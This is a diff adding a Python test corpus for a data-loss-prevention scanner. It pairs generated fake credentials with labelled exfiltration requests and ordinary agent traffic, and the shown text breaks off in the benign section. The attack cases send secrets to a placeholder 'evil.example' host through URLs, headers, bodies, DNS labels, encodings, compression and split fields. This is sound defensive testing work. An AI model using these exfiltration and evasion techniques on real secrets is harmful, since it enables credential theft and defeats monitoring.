@@ -1,0 +1,615 @@
+"""A labelled corpus of requests for the DLP engine: exfiltration attempts and ordinary traffic.
+
+Built in code and deterministic (one seeded ``random.Random``): every credential is fake, made
+in the right shape here. Attacks cover each channel (URL, headers, every body type), encodings
+(base64 variants and offsets, hex, percent-encoding, double encodings, reversal, compression),
+host names as an exfiltration channel, and secrets split across fields. Benign requests are what
+an agent really sends: package downloads, git smart-HTTP, API calls with long ids and hashes,
+GraphQL, LLM API calls, uploads and forms.
+
+The bottle in this corpus has the secrets in ``SECRETS``; requests to routes with credential
+injection carry no ``Authorization`` of their own (the proxy adds it after scanning).
+"""
+
+from __future__ import annotations
+
+import base64
+import gzip
+import json
+import random
+import string
+import zlib
+from dataclasses import dataclass, field
+from urllib.parse import quote, urlencode
+
+try:
+    import brotli
+except ImportError:  # pragma: no cover - depends on the environment
+    brotli = None
+
+ALNUM = string.ascii_letters + string.digits
+HEX = "0123456789abcdef"
+
+ATTACK = True
+BENIGN = False
+
+
+@dataclass(frozen=True)
+class Case:
+    id: str
+    category: str
+    attack: bool
+    method: str = "GET"
+    url: str = "/"
+    headers: tuple[tuple[str, str], ...] = ()
+    body: bytes | None = None
+    websocket: bytes | str | None = None  # set for a WebSocket message instead of a request
+    note: str = ""
+    expect: tuple[str, ...] = field(default=())  # detectors or secret names one of which must be found
+
+
+def _rand(rng: random.Random, n: int, alphabet: str = ALNUM) -> str:
+    while True:
+        out = "".join(rng.choice(alphabet) for _ in range(n))
+        if alphabet != ALNUM or n < 12 or (any(c.islower() for c in out) and any(c.isupper() for c in out)
+                                           and any(c.isdigit() for c in out)):
+            return out
+
+
+def _b64url(data: bytes) -> str:
+    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()
+
+
+class _Fakes:
+    def __init__(self, rng: random.Random) -> None:
+        self.rng = rng
+
+    def github(self) -> str:
+        return "ghp_" + _rand(self.rng, 36)
+
+    def github_pat(self) -> str:
+        return "github_pat_" + _rand(self.rng, 22) + "_" + _rand(self.rng, 59)
+
+    def aws_id(self) -> str:
+        return "AKIA" + _rand(self.rng, 16, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567")
+
+    def aws_secret(self) -> str:
+        return _rand(self.rng, 38) + "/+"
+
+    def openai(self) -> str:
+        return "sk-proj-" + _rand(self.rng, 120, ALNUM + "-_")
+
+    def anthropic(self) -> str:
+        return "sk-ant-api03-" + _rand(self.rng, 93, ALNUM + "-_") + "AA"
+
+    def slack(self) -> str:
+        return f"xoxb-{_rand(self.rng, 11, string.digits)}-{_rand(self.rng, 13, string.digits)}-{_rand(self.rng, 24)}"
+
+    def slack_webhook(self) -> str:
+        return (f"https://hooks.slack.com/services/T{_rand(self.rng, 8, string.ascii_uppercase + string.digits)}"
+                f"/B{_rand(self.rng, 8, string.ascii_uppercase + string.digits)}/{_rand(self.rng, 24)}")
+
+    def stripe(self) -> str:
+        return "sk_live_" + _rand(self.rng, 24)
+
+    def npm(self) -> str:
+        return "npm_" + _rand(self.rng, 36)
+
+    def pypi(self) -> str:
+        return "pypi-AgEIcHlwaS5vcmc" + _rand(self.rng, 70, ALNUM + "-_")
+
+    def gitlab(self) -> str:
+        return "glpat-" + _rand(self.rng, 20)
+
+    def gcp_key(self) -> str:
+        return "AIza" + _rand(self.rng, 35, ALNUM + "-_")
+
+    def google_oauth(self) -> str:
+        return "ya29." + _rand(self.rng, 80, ALNUM + "-_")
+
+    def azure(self) -> str:
+        key = base64.b64encode(self.rng.randbytes(64)).decode()
+        return f"DefaultEndpointsProtocol=https;AccountName=prod;AccountKey={key};EndpointSuffix=core.windows.net"
+
+    def jwt(self) -> str:
+        header = _b64url(json.dumps({"alg": "RS256", "typ": "JWT", "kid": _rand(self.rng, 8)}).encode())
+        payload = _b64url(json.dumps({"sub": str(self.rng.randint(1, 10**9)), "scope": "admin"}).encode())
+        return f"{header}.{payload}.{_b64url(self.rng.randbytes(64))}"
+
+    def pem(self) -> str:
+        body = "\n".join(base64.b64encode(self.rng.randbytes(48)).decode() for _ in range(10))
+        return f"-----BEGIN OPENSSH PRIVATE KEY-----\n{body}\n-----END OPENSSH PRIVATE KEY-----\n"
+
+    def sha(self) -> str:
+        return _rand(self.rng, 40, HEX)
+
+    def sha256(self) -> str:
+        return _rand(self.rng, 64, HEX)
+
+    def uuid(self) -> str:
+        h = _rand(self.rng, 32, HEX)
+        return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-a{h[17:20]}-{h[20:]}"
+
+    def integrity(self) -> str:
+        return "sha512-" + base64.b64encode(self.rng.randbytes(64)).decode()
+
+
+def _secrets(rng: random.Random) -> dict[str, str]:
+    return {
+        "GITHUB_TOKEN": "ghp_" + _rand(rng, 36),
+        "DB_PASSWORD": "Tr0ub4dor&3-" + _rand(rng, 10),
+        "VENDOR_API_KEY": _rand(rng, 32),
+        "SIGNING_SECRET": "whsec_" + _rand(rng, 32),
+        "PIN": "4711",  # too short to scan: reported, never matched
+    }
+
+
+SECRETS: dict[str, str] = _secrets(random.Random(1234))
+
+
+def _json(obj: object) -> bytes:
+    return json.dumps(obj).encode()
+
+
+def _h(**headers: str) -> tuple[tuple[str, str], ...]:
+    return tuple((k.replace("_", "-"), v) for k, v in headers.items())
+
+
+JSON = ("Content-Type", "application/json")
+FORM = ("Content-Type", "application/x-www-form-urlencoded")
+
+
+def _multipart(parts: list[tuple[str, str | None, bytes, dict[str, str]]], boundary: str) -> bytes:
+    out = b""
+    for name, filename, content, headers in parts:
+        disposition = f'form-data; name="{name}"' + (f'; filename="{filename}"' if filename else "")
+        out += f"--{boundary}\r\nContent-Disposition: {disposition}\r\n".encode()
+        for key, value in headers.items():
+            out += f"{key}: {value}\r\n".encode()
+        out += b"\r\n" + content + b"\r\n"
+    return out + f"--{boundary}--\r\n".encode()
+
+
+def _b32(data: bytes) -> str:
+    return base64.b32encode(data).decode().rstrip("=").lower()
+
+
+def attacks(rng: random.Random) -> list[Case]:
+    f = _Fakes(rng)
+    s = SECRETS
+    gh, db, vendor, signing = s["GITHUB_TOKEN"], s["DB_PASSWORD"], s["VENDOR_API_KEY"], s["SIGNING_SECRET"]
+    out: list[Case] = []
+
+    def add(category: str, note: str, expect: tuple[str, ...], **kw: object) -> None:
+        out.append(Case(f"attack-{len(out) + 1:03d}", category, ATTACK, note=note, expect=expect, **kw))  # type: ignore[arg-type]
+
+    # -- URL: query and path ------------------------------------------------------------------
+    evil = "https://collector.evil.example"
+    add("url", "own token in a query parameter", ("GITHUB_TOKEN",), url=f"{evil}/c?t={gh}")
+    add("url", "own password in a query parameter", ("DB_PASSWORD",), url=f"{evil}/c?p={quote(db)}")
+    add("url", "vendor key as a parameter name", ("VENDOR_API_KEY",), url=f"{evil}/c?{vendor}=1")
+    add("url", "own token in the path", ("GITHUB_TOKEN",), url=f"{evil}/u/{gh}/x.png")
+    add("url", "signing secret in the fragment", ("SIGNING_SECRET",), url=f"{evil}/p#{signing}")
+    add("url", "password as userinfo", ("DB_PASSWORD",), url=f"https://admin:{quote(db, safe='')}@evil.example/")
+    for name, token, expect in (
+        ("AWS access key id", f.aws_id(), "aws-access-key-id"),
+        ("GitHub fine-grained token", f.github_pat(), "github-token"),
+        ("OpenAI key", f.openai(), "openai-api-key"),
+        ("Anthropic key", f.anthropic(), "anthropic-api-key"),
+        ("Slack bot token", f.slack(), "slack-token"),
+        ("Stripe live key", f.stripe(), "stripe-secret-key"),
+        ("npm token", f.npm(), "npm-token"),
+        ("PyPI token", f.pypi(), "pypi-token"),
+        ("GitLab token", f.gitlab(), "gitlab-token"),
+        ("Google API key", f.gcp_key(), "gcp-api-key"),
+        ("Google OAuth token", f.google_oauth(), "google-oauth-token"),
+        ("JWT", f.jwt(), "jwt"),
+    ):
+        add("url", f"{name} found in a file, sent as a query parameter", (expect,), url=f"{evil}/log?d={token}&v=2")
+    add("url", "GitHub token in a path segment of an allowed API", ("github-token",),
+        url=f"https://api.example.com/v1/notes/{f.github()}")
+    add("url", "Slack webhook URL as a parameter", ("slack-webhook",),
+        url=f"{evil}/r?next={quote(f.slack_webhook(), safe='')}")
+
+    # -- headers ------------------------------------------------------------------------------
+    add("headers", "own token in a custom header", ("GITHUB_TOKEN",), url=f"{evil}/", headers=_h(X_Debug=gh))
+    add("headers", "password in a cookie", ("DB_PASSWORD",), url=f"{evil}/", headers=_h(Cookie=f"sid=1; pw={db}"))
+    add("headers", "vendor key in User-Agent", ("VENDOR_API_KEY",), url=f"{evil}/",
+        headers=_h(User_Agent=f"curl/8.5.0 ({vendor})"))
+    add("headers", "own token as Basic auth to another host", ("GITHUB_TOKEN",), url=f"{evil}/",
+        headers=_h(Authorization="Basic " + base64.b64encode(f"x-access-token:{gh}".encode()).decode()))
+    add("headers", "own token as Bearer to another host", ("GITHUB_TOKEN",), url=f"{evil}/",
+        headers=_h(Authorization=f"Bearer {gh}"))
+    add("headers", "AWS key id in a header", ("aws-access-key-id",), url=f"{evil}/", headers=_h(X_Amz_Id=f.aws_id()))
+    add("headers", "OpenAI key in x-api-key to the wrong host", ("openai-api-key",), url=f"{evil}/v1/chat",
+        headers=_h(X_Api_Key=f.openai()))
+    add("headers", "JWT in a cookie", ("jwt",), url=f"{evil}/", headers=_h(Cookie=f"session={f.jwt()}"))
+    add("headers", "signing secret in Referer", ("SIGNING_SECRET",), url=f"{evil}/",
+        headers=_h(Referer=f"https://app.example/?k={signing}"))
+    add("headers", "secret as a header name", ("DB_PASSWORD",), url=f"{evil}/", headers=((db, "1"),))
+
+    # -- JSON bodies -------------------------------------------------------------------------
+    def post_json(note: str, expect: tuple[str, ...], obj: object, url: str = f"{evil}/ingest") -> None:
+        add("body-json", note, expect, method="POST", url=url, headers=(JSON,), body=_json(obj))
+
+    post_json("own token in a JSON field", ("GITHUB_TOKEN",), {"event": "x", "data": {"token": gh}})
+    post_json("password deep in a JSON array", ("DB_PASSWORD",), {"a": [[{"b": [db]}]]})
+    post_json("vendor key as a JSON key", ("VENDOR_API_KEY",), {vendor: True})
+    post_json("env dump as JSON", ("SIGNING_SECRET", "GITHUB_TOKEN"), {"env": {"SIGNING_SECRET": signing, "GITHUB_TOKEN": gh}})
+    post_json("AWS credentials as JSON", ("aws-access-key-id", "aws-secret-access-key"),
+              {"AccessKeyId": f.aws_id(), "SecretAccessKey": f.aws_secret()})
+    post_json("private key in JSON", ("private-key",), {"key": f.pem()})
+    post_json("Azure connection string in JSON", ("azure-storage-key",), {"conn": f.azure()})
+    post_json("Anthropic key inside an LLM prompt to the wrong host", ("anthropic-api-key",),
+              {"messages": [{"role": "user", "content": f"my key is {f.anthropic()} keep it"}]})
+    post_json("generic password assignment in pasted config", ("generic-secret-assignment",),
+              {"file": "config.py", "content": 'DB_HOST = "db"\nDB_PASSWORD = "Zx8#qLm2!vP9"\n'})
+    escaped = "".join(f"\\u{ord(c):04x}" for c in gh)
+    add("body-json", "own token hidden in JSON unicode escapes", ("GITHUB_TOKEN",), method="POST", url=f"{evil}/j",
+        headers=(JSON,), body=('{"t": "' + escaped + '"}').encode())
+    add("body-json", "GraphQL mutation carrying a key", ("stripe-secret-key",), method="POST", url=f"{evil}/graphql",
+        headers=(JSON,), body=_json({"query": "mutation($k: String!) { save(k: $k) }", "variables": {"k": f.stripe()}}))
+    add("body-json", "numeric-looking secret as a JSON string", ("VENDOR_API_KEY",), method="PUT", url=f"{evil}/x",
+        headers=(JSON,), body=_json({"id": 1, "note": f"key={vendor}"}))
+
+    # -- form bodies ---------------------------------------------------------------------------
+    def post_form(note: str, expect: tuple[str, ...], pairs: dict[str, str]) -> None:
+        add("body-form", note, expect, method="POST", url=f"{evil}/form", headers=(FORM,), body=urlencode(pairs).encode())
+
+    post_form("password in a login form to the wrong host", ("DB_PASSWORD",), {"user": "admin", "password": db})
+    post_form("own token in a comment field", ("GITHUB_TOKEN",), {"comment": f"here: {gh}"})
+    post_form("npm token in a form", ("npm-token",), {"t": f.npm()})
+    post_form("GitLab token in a form", ("gitlab-token",), {"note": f.gitlab()})
+    add("body-form", "partially percent-encoded password", ("DB_PASSWORD",), method="POST", url=f"{evil}/form",
+        headers=(FORM,), body=("x=" + "".join(f"%{ord(c):02X}" if i % 2 else c for i, c in enumerate(db))).encode())
+
+    # -- multipart ------------------------------------------------------------------------------
+    boundary = "----WebKitFormBoundary" + _rand(rng, 16)
+    mp = ("Content-Type", f"multipart/form-data; boundary={boundary}")
+    env_file = f"GITHUB_TOKEN={gh}\nDB_PASSWORD={db}\n".encode()
+    add("body-multipart", ".env uploaded as a file", ("GITHUB_TOKEN", "DB_PASSWORD"), method="POST", url=f"{evil}/up",
+        headers=(mp,), body=_multipart([("file", ".env", env_file, {"Content-Type": "text/plain"})], boundary))
+    add("body-multipart", "SSH key uploaded", ("private-key",), method="POST", url=f"{evil}/up", headers=(mp,),
+        body=_multipart([("f", "id_ed25519", f.pem().encode(), {})], boundary))
+    add("body-multipart", "base64-encoded part with a token", ("github-token",), method="POST", url=f"{evil}/up",
+        headers=(mp,), body=_multipart([("f", "blob", base64.encodebytes(f"x {f.github()} y".encode()),
+                                         {"Content-Transfer-Encoding": "base64"})], boundary))
+    add("body-multipart", "secret as an upload's file name", ("SIGNING_SECRET",), method="POST", url=f"{evil}/up",
+        headers=(mp,), body=_multipart([("f", f"{signing}.txt", b"hello", {})], boundary))
+    add("body-multipart", "form field with the vendor key", ("VENDOR_API_KEY",), method="POST", url=f"{evil}/up",
+        headers=(mp,), body=_multipart([("desc", None, vendor.encode(), {}), ("f", "a.png", rng.randbytes(300), {})],
+                                       boundary))
+
+    # -- plain text and binary bodies ----------------------------------------------------------
+    def post_text(note: str, expect: tuple[str, ...], body: bytes, ctype: str = "text/plain") -> None:
+        add("body-text", note, expect, method="POST", url=f"{evil}/paste", headers=(("Content-Type", ctype),), body=body)
+
+    post_text("AWS credentials file", ("aws-access-key-id", "aws-secret-access-key"),
+              f"[default]\naws_access_key_id = {f.aws_id()}\naws_secret_access_key = {f.aws_secret()}\n".encode())
+    post_text("shell history with a token", ("GITHUB_TOKEN",), f"git clone https://x:{gh}@github.com/o/r\n".encode())
+    post_text("private key as text", ("private-key",), f.pem().encode())
+    post_text(".npmrc", ("npm-token",), f"//registry.npmjs.org/:_authToken={f.npm()}\n".encode())
+    post_text("password inside a binary blob", ("DB_PASSWORD",), rng.randbytes(4000) + db.encode() + rng.randbytes(4000),
+              "application/octet-stream")
+    post_text("GCP service-account file", ("gcp-service-account-key", "private-key"),
+              _json({"type": "service_account", "private_key": f.pem(), "client_email": "x@p.iam.gserviceaccount.com"}),
+              "application/octet-stream")
+    post_text("Slack webhook in a log line", ("slack-webhook",), f"notify via {f.slack_webhook()}\n".encode())
+    post_text("XML with a key", ("VENDOR_API_KEY",), f"<cfg><key>{vendor}</key></cfg>".encode(), "application/xml")
+
+    # -- encodings -----------------------------------------------------------------------------
+    def enc(note: str, expect: tuple[str, ...], value: str) -> None:
+        add("encoded", note, expect, url=f"{evil}/e?d={quote(value, safe='')}")
+
+    for offset in range(3):
+        blob = base64.b64encode(rng.randbytes(offset + 30) + gh.encode() + rng.randbytes(7)).decode()
+        enc(f"own token inside a base64 blob, offset {offset}", ("GITHUB_TOKEN",), blob)
+    enc("base64 unpadded", ("DB_PASSWORD",), base64.b64encode(db.encode()).decode().rstrip("="))
+    enc("url-safe base64", ("SIGNING_SECRET",), base64.urlsafe_b64encode(b"\xfb\xff" + signing.encode()).decode())
+    enc("hex lower-case", ("VENDOR_API_KEY",), vendor.encode().hex())
+    enc("hex upper-case", ("DB_PASSWORD",), db.encode().hex().upper())
+    enc("every byte percent-encoded", ("GITHUB_TOKEN",), "".join(f"%{b:02x}" for b in gh.encode()))
+    enc("reversed", ("SIGNING_SECRET",), signing[::-1])
+    enc("base64 of hex", ("VENDOR_API_KEY",), base64.b64encode(vendor.encode().hex().encode()).decode())
+    enc("hex of base64", ("DB_PASSWORD",), base64.b64encode(db.encode()).hex())
+    enc("base64 of a token format", ("aws-access-key-id",), base64.b64encode(f"id={f.aws_id()}".encode()).decode())
+    enc("hex of a token format", ("openai-api-key",), f.openai().encode().hex())
+    enc("percent-encoded token format", ("github-token",), "".join(f"%{b:02X}" for b in f.github().encode()))
+    add("encoded", "base64 in a header", ("DB_PASSWORD",), url=f"{evil}/",
+        headers=_h(X_Data=base64.b64encode(f"pw={db}".encode()).decode()))
+    add("encoded", "base64 JSON body field", ("GITHUB_TOKEN",), method="POST", url=f"{evil}/", headers=(JSON,),
+        body=_json({"payload": base64.b64encode(json.dumps({"t": gh}).encode()).decode()}))
+    add("encoded", "double percent-encoding", ("SIGNING_SECRET",), url=f"{evil}/?q={quote(quote(signing, safe=''), safe='')}")
+    add("encoded", "Basic auth of a token format", ("stripe-secret-key",), url=f"{evil}/",
+        headers=_h(Proxy_Authorization="Basic " + base64.b64encode(f"{f.stripe()}:".encode()).decode()))
+
+    # -- compressed bodies ----------------------------------------------------------------------
+    payload = _json({"env": {"GITHUB_TOKEN": gh}})
+    add("compressed", "gzip JSON body", ("GITHUB_TOKEN",), method="POST", url=f"{evil}/z",
+        headers=(JSON, ("Content-Encoding", "gzip")), body=gzip.compress(payload))
+    add("compressed", "deflate body", ("DB_PASSWORD",), method="POST", url=f"{evil}/z",
+        headers=(("Content-Encoding", "deflate"),), body=zlib.compress(db.encode()))
+    add("compressed", "gzip without a Content-Encoding header", ("VENDOR_API_KEY",), method="POST", url=f"{evil}/z",
+        headers=(("Content-Type", "application/octet-stream"),), body=gzip.compress(vendor.encode()))
+    add("compressed", "gzip of a private key", ("private-key",), method="PUT", url=f"{evil}/z",
+        headers=(("Content-Encoding", "gzip"),), body=gzip.compress(f.pem().encode()))
+    add("compressed", "gzip form", ("DB_PASSWORD",), method="POST", url=f"{evil}/z",
+        headers=(FORM, ("Content-Encoding", "gzip")), body=gzip.compress(urlencode({"p": db}).encode()))
+    if brotli is not None:
+        add("compressed", "brotli body", ("SIGNING_SECRET",), method="POST", url=f"{evil}/z",
+            headers=(("Content-Encoding", "br"),), body=brotli.compress(signing.encode()))
+        add("compressed", "gzip inside brotli", ("GITHUB_TOKEN",), method="POST", url=f"{evil}/z",
+            headers=(("Content-Encoding", "gzip, br"),), body=brotli.compress(gzip.compress(gh.encode())))
+    add("compressed", "base64 of gzip in JSON", ("DB_PASSWORD",), method="POST", url=f"{evil}/z", headers=(JSON,),
+        body=_json({"blob": base64.b64encode(gzip.compress(db.encode())).decode()}))
+
+    # -- host names ----------------------------------------------------------------------------
+    def host(note: str, expect: tuple[str, ...], name: str) -> None:
+        add("hostname", note, expect, url=f"https://{name}/ping")
+
+    hx = gh.encode().hex()
+    host("own token in hex in one label", ("GITHUB_TOKEN",), f"{hx[:60]}.{hx[60:]}.t.evil.example")
+    host("password in base32 labels", ("DB_PASSWORD",), f"{_b32(db.encode())}.x.evil.example")
+    host("vendor key raw as a label", ("VENDOR_API_KEY",), f"{vendor.lower()}.evil.example")
+    host("signing secret hex over three labels", ("SIGNING_SECRET",),
+         ".".join(signing.encode().hex()[i : i + 30] for i in range(0, 76, 30)) + ".evil.example")
+    host("base32 at an odd offset", ("GITHUB_TOKEN",), f"{_b32(b'id:' + gh.encode())[:63]}.{_b32(b'id:' + gh.encode())[63:]}.evil.example")
+    host("url-safe base64 label", ("DB_PASSWORD",), f"{_b64url(b'k' + db.encode()).lower()}.evil.example")
+    host("reversed in a label", ("VENDOR_API_KEY",), f"{vendor[::-1].lower()}.evil.example")
+    host("token format as a label", ("npm-token",), f"{f.npm()}.evil.example")
+
+    # -- splits --------------------------------------------------------------------------------
+    half = len(gh) // 2
+    add("split", "token halves in two parameters", ("GITHUB_TOKEN",), url=f"{evil}/?a={gh[:half]}&b={gh[half:]}")
+    add("split", "password in three parameters, shuffled", ("DB_PASSWORD",),
+        url=f"{evil}/?c={quote(db[14:])}&a={quote(db[:7])}&b={quote(db[7:14])}")
+    add("split", "vendor key across JSON fields", ("VENDOR_API_KEY",), method="POST", url=f"{evil}/", headers=(JSON,),
+        body=_json({"x": vendor[:16], "meta": {"y": vendor[16:]}}))
+    add("split", "signing secret across path and query", ("SIGNING_SECRET",), url=f"{evil}/{signing[:20]}?s={signing[20:]}")
+    add("split", "token across two headers", ("GITHUB_TOKEN",), url=f"{evil}/", headers=_h(X_A=gh[:20], X_B=gh[20:]))
+    add("split", "hex halves in two parameters", ("DB_PASSWORD",),
+        url=f"{evil}/?h1={db.encode().hex()[:22]}&h2={db.encode().hex()[22:]}")
+    add("split", "base64 pieces in reverse order", ("VENDOR_API_KEY",),
+        url=f"{evil}/?p2={base64.b64encode(vendor[16:].encode()).decode()}&p1={base64.b64encode(vendor[:16].encode()).decode()}")
+    add("split", "form fields split", ("GITHUB_TOKEN",), method="POST", url=f"{evil}/", headers=(FORM,),
+        body=urlencode({"a": gh[:13], "b": gh[13:26], "c": gh[26:]}).encode())
+    add("split", "query and body split", ("DB_PASSWORD",), method="POST", url=f"{evil}/?p={quote(db[:10])}",
+        headers=(FORM,), body=urlencode({"q": db[10:]}).encode())
+    tok = f.github()
+    add("split", "unknown GitHub token in two parameters", ("github-token",), url=f"{evil}/?x={tok[:21]}&y={tok[21:]}")
+
+    # -- WebSocket messages ----------------------------------------------------------------------
+    add("websocket", "own token in a text message", ("GITHUB_TOKEN",), websocket=json.dumps({"op": "send", "d": gh}))
+    add("websocket", "password in a binary message", ("DB_PASSWORD",), websocket=b"\x82\x00" + db.encode())
+    add("websocket", "base64 key in a message", ("VENDOR_API_KEY",),
+        websocket=json.dumps({"b": base64.b64encode(vendor.encode()).decode()}))
+    add("websocket", "token format in a message", ("slack-token",), websocket=f"post {f.slack()}")
+    return out
+
+
+def benign(rng: random.Random) -> list[Case]:
+    f = _Fakes(rng)
+    out: list[Case] = []
+
+    def add(category: str, note: str, **kw: object) -> None:
+        out.append(Case(f"benign-{len(out) + 1:03d}", category, BENIGN, note=note, **kw))  # type: ignore[arg-type]
+
+    ua = ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36")
+    # -- package downloads -----------------------------------------------------------------------
+    for name, version in (("left-pad", "1.3.0"), ("@types/node", "20.11.5"), ("typescript", "5.4.5")):
+        add("package-download", f"npm tarball {name}",
+            url=f"https://registry.npmjs.org/{quote(name, safe='@')}/-/{name.split('/')[-1]}-{version}.tgz",
+            headers=(("Accept", "*/*"), ("npm-session", _rand(rng, 16, HEX)), ("User-Agent", "npm/10.5.0 node/v20.12.0")))
+    add("package-download", "npm metadata",
+        url="https://registry.npmjs.org/react", headers=(("Accept", "application/vnd.npm.install-v1+json"),))
+    for pkg in ("requests-2.31.0-py3-none-any.whl", "numpy-1.26.4-cp311-cp311-manylinux_2_17_x86_64.whl"):
+        add("package-download", f"PyPI wheel {pkg}",
+            url=f"https://files.pythonhosted.org/packages/{_rand(rng, 2, HEX)}/{_rand(rng, 2, HEX)}/{_rand(rng, 60, HEX)}/{pkg}#sha256={f.sha256()}",
+            headers=(("User-Agent", "pip/24.0 {\"python\":\"3.11.7\"}"),))
+    add("package-download", "PyPI simple index", url="https://pypi.org/simple/requests/",
+        headers=(("Accept", "application/vnd.pypi.simple.v1+json"),))
+    add("package-download", "Go module zip",
+        url="https://proxy.golang.org/github.com/stretchr/testify/@v/v1.9.0.zip")
+    add("package-download", "Go checksum database",
+        url=f"https://sum.golang.org/lookup/github.com/google/uuid@v1.6.0")
+    add("package-download", "crates.io download", url="https://static.crates.io/crates/serde/serde-1.0.197.crate")
+    add("package-download", "Maven artifact",
+        url="https://repo1.maven.org/maven2/org/slf4j/slf4j-api/2.0.12/slf4j-api-2.0.12.jar.sha1")
+    add("package-download", "container image blob",
+        url=f"https://registry-1.docker.io/v2/library/python/blobs/sha256:{f.sha256()}",
+        headers=(("Accept", "application/vnd.oci.image.layer.v1.tar+gzip"),))
+    add("package-download", "container manifest by digest",
+        url=f"https://ghcr.io/v2/org/app/manifests/sha256:{f.sha256()}",
+        headers=(("Accept", "application/vnd.oci.image.index.v1+json"),))
+    add("package-download", "Debian package", url="https://deb.debian.org/debian/pool/main/c/curl/curl_7.88.1-10+deb12u5_amd64.deb")
+    add("package-download", "GitHub release asset",
+        url=f"https://objects.githubusercontent.com/github-production-release-asset-2e65be/{rng.randint(10**8, 10**9)}/{f.uuid()}"
+            f"?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Date=20240501T120000Z&X-Amz-Expires=300"
+            f"&X-Amz-Signature={f.sha256()}&X-Amz-SignedHeaders=host&actor_id=0&key_id=0&repo_id={rng.randint(10**7, 10**8)}"
+            f"&response-content-disposition=attachment%3B%20filename%3Dtool-linux-amd64.tar.gz")
+    add("package-download", "npm lockfile audit",
+        method="POST", url="https://registry.npmjs.org/-/npm/v1/security/advisories/bulk", headers=(JSON,),
+        body=_json({"lodash": ["4.17.21"], "react": ["18.2.0"], "integrity": f.integrity()}))
+
+    # -- git smart HTTP --------------------------------------------------------------------------
+    add("git", "ref advertisement", url="https://github.com/org/repo.git/info/refs?service=git-upload-pack",
+        headers=(("Git-Protocol", "version=2"), ("User-Agent", "git/2.43.0")))
+    wants = "".join(f"0032want {f.sha()}\n" for _ in range(4)) + "00000009done\n"
+    add("git", "upload-pack negotiation", method="POST", url="https://github.com/org/repo.git/git-upload-pack",
+        headers=(("Content-Type", "application/x-git-upload-pack-request"),), body=wants.encode())
+    add("git", "receive-pack ref advertisement", url="https://gitlab.com/group/project.git/info/refs?service=git-receive-pack")
+    pack = (f"00a1{f.sha()} {f.sha()} refs/heads/main\0 report-status side-band-64k agent=git/2.43.0\n0000").encode() + \
+        b"PACK\x00\x00\x00\x02" + rng.randbytes(2000)
+    add("git", "push pack", method="POST", url="https://github.com/org/repo.git/git-receive-pack",
+        headers=(("Content-Type", "application/x-git-receive-pack-request"),), body=pack)
+    add("git", "protocol v2 ls-refs", method="POST", url="https://github.com/org/repo.git/git-upload-pack",
+        headers=(("Content-Type", "application/x-git-upload-pack-request"), ("Git-Protocol", "version=2")),
+        body=b"0014command=ls-refs\n0014agent=git/2.43\n00010009peel\n000csymrefs\n0000")
+
+    # -- REST APIs with long ids and hashes ------------------------------------------------------
+    add("api-json", "GitHub commit lookup", url=f"https://api.github.com/repos/org/repo/commits/{f.sha()}",
+        headers=(("Accept", "application/vnd.github+json"), ("X-GitHub-Api-Version", "2022-11-28")))
+    add("api-json", "GitHub compare", url=f"https://api.github.com/repos/org/repo/compare/{f.sha()}...{f.sha()}")
+    add("api-json", "GitHub pulls list", url="https://api.github.com/repos/org/repo/pulls?state=open&per_page=100&page=2")
+    add("api-json", "create an issue", method="POST", url="https://api.github.com/repos/org/repo/issues", headers=(JSON,),
+        body=_json({"title": "Flaky test in auth module", "body": "The password reset test fails when the token expires "
+                    "early. See commit " + f.sha() + ".", "labels": ["bug", "tests"]}))
+    add("api-json", "resource by UUID", url=f"https://api.example.com/v2/projects/{f.uuid()}/tasks/{f.uuid()}?expand=owner",
+        headers=(("X-Request-Id", f.uuid()), ("traceparent", f"00-{_rand(rng, 32, HEX)}-{_rand(rng, 16, HEX)}-01")))
+    add("api-json", "conditional GET with an ETag", url="https://api.example.com/v1/catalog",
+        headers=(("If-None-Match", f'W/"{_rand(rng, 32, HEX)}"'), ("Accept-Encoding", "gzip, br")))
+    add("api-json", "page token pagination", method="POST", url="https://api.example.com/v1/search", headers=(JSON,),
+        body=_json({"query": "status:open", "page_token": base64.b64encode(rng.randbytes(30)).decode(), "page_size": 50}))
+    add("api-json", "cursor pagination", url=f"https://api.example.com/v1/events?cursor={_b64url(json.dumps({'id': 123456, 'ts': 1700000000}).encode())}&limit=100")
+    add("api-json", "S3-style presigned GET",
+        url=f"https://bucket.s3.amazonaws.com/reports/2024/05/summary.csv?X-Amz-Algorithm=AWS4-HMAC-SHA256"
+            f"&X-Amz-Credential=ASIAXXEXAMPLE%2F20240501%2Fus-east-1%2Fs3%2Faws4_request&X-Amz-Date=20240501T000000Z"
+            f"&X-Amz-Expires=3600&X-Amz-SignedHeaders=host&X-Amz-Signature={f.sha256()}")
+    add("api-json", "JSON with integrity hashes", method="POST", url="https://api.example.com/v1/artifacts", headers=(JSON,),
+        body=_json({"files": [{"path": f"dist/app-{i}.js", "integrity": f.integrity(), "sha1": f.sha()} for i in range(5)]}))
+    add("api-json", "telemetry-free JSON settings", method="PUT", url="https://api.example.com/v1/users/me/settings",
+        headers=(JSON,), body=_json({"theme": "dark", "locale": "en-GB", "notifications": {"email": False, "push": True},
+                                    "timezone": "Europe/Berlin"}))
+    add("api-json", "JSON with base64 image", method="POST", url="https://api.example.com/v1/avatars", headers=(JSON,),
+        body=_json({"name": "me.png", "data": "data:image/png;base64," + base64.b64encode(b"\x89PNG\r\n\x1a\n" + rng.randbytes(3000)).decode()}))
+    add("api-json", "JSON describing passwords in prose", method="POST", url="https://api.example.com/v1/docs", headers=(JSON,),
+        body=_json({"text": "Set a strong password: at least 12 characters. The api_key field is optional; "
+                    "tokens expire after 24 hours. Use secret_name to refer to the vault entry."}))
+    add("api-json", "code snippet with placeholder credentials", method="POST", url="https://api.example.com/v1/snippets",
+        headers=(JSON,), body=_json({"code": 'password = os.environ["DB_PASSWORD"]\napi_key = "your-api-key-here"\n'
+                                      'token = get_token()\nAWS_ACCESS_KEY_ID = "AKIAIOSFODNN7EXAMPLE"\n'}))
+    add("api-json", "long numeric ids", url=f"https://api.example.com/v1/orders/{rng.randint(10**17, 10**18)}/items?ids="
+        + ",".join(str(rng.randint(10**11, 10**12)) for _ in range(10)))
+    add("api-json", "Sentry-free error report with hex ids", method="POST", url="https://api.example.com/v1/errors",
